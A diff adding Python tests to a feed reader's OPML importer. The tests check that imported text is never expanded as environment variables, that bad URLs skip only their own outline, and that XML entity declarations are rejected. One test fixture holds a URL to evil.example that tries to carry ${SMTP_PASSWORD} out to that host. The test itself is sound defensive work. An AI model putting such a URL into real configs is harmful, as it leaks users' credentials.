@@ -182,3 +182,50 @@ def test_corpus_opml_lists_import_and_export_unchanged(workspace, tmp_path):
     workspace.cli("export", "opml", "-o", str(exported))
     unique = list({f.url: (f.name, f.url) for f in reversed(read_opml(country).feeds)}.values())[::-1]
     assert sorted((f.name, f.url) for f in read_opml(exported).feeds) == sorted(unique)
+
+
+def test_imported_text_is_never_read_as_an_environment_reference(workspace, tmp_path, monkeypatch):
+    # A list from a stranger (or a site's <link rel=alternate>) naming ${SECRET} must not make the daemon
+    # send the secret to the stranger's site: what is imported is read back as written.
+    monkeypatch.setenv("SMTP_PASSWORD", "hunter2")
+    workspace.config_path.write_text(HEADER)
+    source = tmp_path / "subs.opml"
+    source.write_text(
+        opml(
+            '<outline text="Costs $5 ${HOME}" '
+            'xmlUrl="https://evil.example/rss?k=${SMTP_PASSWORD}&amp;p=$$x"/>'
+        )
+    )
+    workspace.cli("import", "opml", str(source))
+    feeds = {feed.name: feed for feed in load_config(workspace.config_path).feeds}
+    assert feeds["Costs $5 ${HOME}"].url == "https://evil.example/rss?k=${SMTP_PASSWORD}&p=$$x"
+
+
+def test_an_unusable_url_skips_its_outline_not_the_import(workspace, tmp_path):
+    workspace.config_path.write_text(HEADER)
+    source = tmp_path / "subs.opml"
+    source.write_text(
+        opml(
+            '<outline text="Bracket" xmlUrl="http://[::1/rss"/>'
+            '<outline text="Port" xmlUrl="https://port.example:99999/rss"/>'
+            '<outline text="Good" xmlUrl="https://good.example/rss"/>'
+        )
+    )
+    result = workspace.cli("import", "opml", str(source))
+    assert "added 1 feed from" in result.stdout
+    assert f"{source}:1: Bracket" in result.stderr and f"{source}:1: Port" in result.stderr
+    assert [feed.name for feed in load_config(workspace.config_path).feeds] == ["Mine", "Good"]
+
+
+@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32"])
+def test_a_list_in_a_wide_encoding_is_read_as_one_in_utf8(encoding):
+    text = opml('<outline text="Tom & Jerry" xmlUrl="https://news.example/rss?cat=world&lang=en"/>').replace(
+        "UTF-8", encoding.upper()
+    )
+    listing = parse_opml(text.encode(encoding), name="subs.opml")
+    assert [(f.name, f.url) for f in listing.feeds] == [
+        ("Tom & Jerry", "https://news.example/rss?cat=world&lang=en")
+    ]
+    declared = text.replace("?><opml", '?><!DOCTYPE opml [<!ENTITY a "aaaa">]><opml')
+    with pytest.raises(OpmlError, match="declares XML entities"):
+        parse_opml(declared.encode(encoding), name="subs.opml")
